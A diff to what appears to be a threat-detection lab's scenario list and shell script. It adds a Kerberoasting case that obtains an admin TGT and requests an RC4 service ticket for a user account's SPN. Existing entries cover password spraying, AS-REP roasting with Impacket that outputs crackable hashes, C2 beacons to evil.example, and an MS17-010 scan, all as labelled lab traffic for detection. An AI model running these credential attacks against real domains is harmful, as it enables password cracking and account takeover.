@@ -51,6 +51,7 @@ smb_brute_force       client 48 attack T1110                                Pass
 kerberos_spray        client 52 attack T1110.003                            Kerberos password spray against the DC's KDC, as kerbrute sends it: one password over the administrator and six unknown accounts, in turn (kerberos_spray.py, Impacket's AS-REQs over TCP)
 kerberos_guess        client 53 attack T1110.001                            Kerberos password guessing against the DC's KDC: twelve passwords tried on one account, one after the other (kerberos_spray.py --tries 12, Impacket's AS-REQs over TCP)
 asrep_roast           client 54 attack T1558.004                            AS-REP roasting: Impacket's GetNPUsers asks the DC's KDC for TGTs without pre-authentication for the administrator, an unknown name and an account made without the requirement (DONT_REQ_PREAUTH), whose AS-REP it prints as a hash to crack
+kerberoast            client 55 attack T1558.003                            Kerberoasting: with the administrator's TGT (MIT kinit), MIT kvno asks the DC's KDC for a service ticket to a user account's SPN (MSSQLSvc/db1.hunt.test:1433), which the KDC issues in RC4, as Windows does for an account nobody configured for AES | Impacket 0.10's GetUserSPNs cannot ask this Samba for tickets (KRB_AP_ERR_INAPP_CKSUM), so MIT's client asks: the ticket on the wire is the same
 c2_http_v4            client 33 attack T1071.001                            HTTP beacons (GET, POST) to the C2 address
 c2_https_sni_v4       client 34 attack T1071.001,T1573                      HTTPS beacon to the C2 address, SNI api.evil.example
 c2_dns                client 35 attack T1071.004                            DNS beacons: A and TXT queries under evil.example at the resolver
@@ -183,6 +184,17 @@ sc_asrep_roast() {
 	printf '%s\n' "$DCLAB_ADMIN" xhroast xh.nobody7 >"$SCEN_DIR/asrep_roast.users"
 	run roast /usr/bin/python3 "$IMP/GetNPUsers.py" "$DCLAB_REALM/" -no-pass -usersfile \
 		"$SCEN_DIR/asrep_roast.users" -dc-ip "$LAB_DC_IP4" -format hashcat
+}
+sc_kerberoast() {
+	local env="KRB5_CONFIG=$SCEN_DIR/kerberoast.krb5.conf KRB5CCNAME=$SCEN_DIR/kerberoast.cc"
+	# made in the DC's database: no traffic of its own
+	dclab_user_spn xhsvc 'Xh-Svc-Pass1!' MSSQLSvc/db1.hunt.test:1433 \
+		>"$SCEN_DIR/kerberoast.user.out" 2>&1
+	dclab_krb5_conf "$SCEN_DIR/kerberoast.krb5.conf"
+	# kinit reads the password on stdin, which run closes
+	run tgt env $env sh -c 'printf "%s\n" "$1" | kinit "$2"' sh "$DCLAB_PASS" \
+		"$DCLAB_ADMIN@$DCLAB_REALM"
+	run tgs env $env kvno "MSSQLSvc/db1.hunt.test:1433@$DCLAB_REALM"
 }
 sc_ms17_010_scan() {
 	run nmap nmap -n -Pn -p 445 --script smb-vuln-ms17-010,smb-double-pulsar-backdoor \
